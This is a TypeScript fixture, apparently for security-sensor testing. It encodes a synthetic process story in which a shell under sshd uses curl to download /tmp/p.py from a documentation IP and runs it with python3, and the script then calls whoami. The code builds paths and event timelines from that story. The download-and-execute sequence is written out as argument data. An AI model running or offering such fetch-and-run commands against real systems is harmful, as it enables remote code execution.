// A small story on one machine, told once; each sensor tells it in its own words.

/** A process of the story. Times in ms after `BEGIN`. */
export interface Told {
  readonly name: string;
  readonly pid: number;
  /** The name of its parent, which had this pid. */
  readonly parent: string;
  readonly ppid: number;
  readonly arguments: readonly string[];
  readonly start: number;
  readonly end: number;
  /** A connection that it opens. */
  readonly connects?: number;
}

export const BEGIN = Date.UTC(2026, 2, 10, 8, 15, 0);
export const PEER = { ip: '198.51.100.7', port: 8080 } as const;
export const USER = { name: 'deploy', id: 1000 } as const;

/**
 * A shell, whose parent nobody saw start, downloads something, and runs it under the process id of the download, which is over by
 * then; what runs asks who it is, in the second in which it began itself.
 */
export const STORY: readonly Told[] = [
  { name: 'bash', pid: 200, parent: 'sshd', ppid: 100, arguments: ['bash', '-i'], start: 123, end: 40_456 },
  { name: 'curl', pid: 300, parent: 'bash', ppid: 200, arguments: ['curl', '-o', '/tmp/p.py', 'http://198.51.100.7:8080/p.py'], start: 2350, end: 4800, connects: 2900 },
  { name: 'python3', pid: 300, parent: 'bash', ppid: 200, arguments: ['python3', '/tmp/p.py'], start: 20_123, end: 39_001 },
  { name: 'whoami', pid: 301, parent: 'python3', ppid: 300, arguments: ['whoami'], start: 20_900, end: 21_100 },
]; // prettier-ignore

const FOLDERS: Readonly<Record<string, string>> = {
  sshd: 'C:\\Windows\\System32\\OpenSSH\\',
  bash: 'C:\\Program Files\\Git\\bin\\',
};

/** Where a program lies. */
export const unixPath = (name: string): string => (name === 'sshd' ? '/usr/sbin/sshd' : `/usr/bin/${name}`);
export const windowsPath = (name: string): string => `${FOLDERS[name] ?? 'C:\\Windows\\System32\\'}${name}.exe`;

export const commandLine = ({ arguments: words }: Told): string => words.join(' ');
/** Epoch ms to the forms of sensors. */
export const iso = (at: number): string => new Date(BEGIN + at).toISOString();
export const seconds = (at: number): number => Math.floor((BEGIN + at) / 1000);

export interface Happening {
  readonly kind: 'start' | 'connect' | 'end';
  readonly at: number;
  readonly process: Told;
}

/** What happens, in the order in which it does. */
export const HAPPENINGS: readonly Happening[] = STORY.flatMap((process): Happening[] => [
  { kind: 'start', at: process.start, process },
  { kind: 'end', at: process.end, process },
  ...(process.connects === undefined ? [] : [{ kind: 'connect' as const, at: process.connects, process }]),
]).sort((a, b) => a.at - b.at);
